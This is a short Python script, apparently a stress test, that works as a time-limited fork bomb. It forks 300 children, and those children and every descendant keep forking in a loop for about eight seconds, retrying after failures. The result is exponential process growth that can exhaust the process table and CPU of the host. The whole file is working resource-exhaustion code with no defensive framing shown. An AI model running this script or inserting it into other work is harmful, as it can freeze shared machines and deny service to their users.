"""Start processes that start processes."""

import os
import time

end = time.time() + 8
for _ in range(300):
    try:
        if os.fork() == 0:
            while time.time() < end:
                try:
                    if os.fork() == 0:
                        time.sleep(0.01)
                except OSError:
                    time.sleep(0.01)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
time.sleep(8)
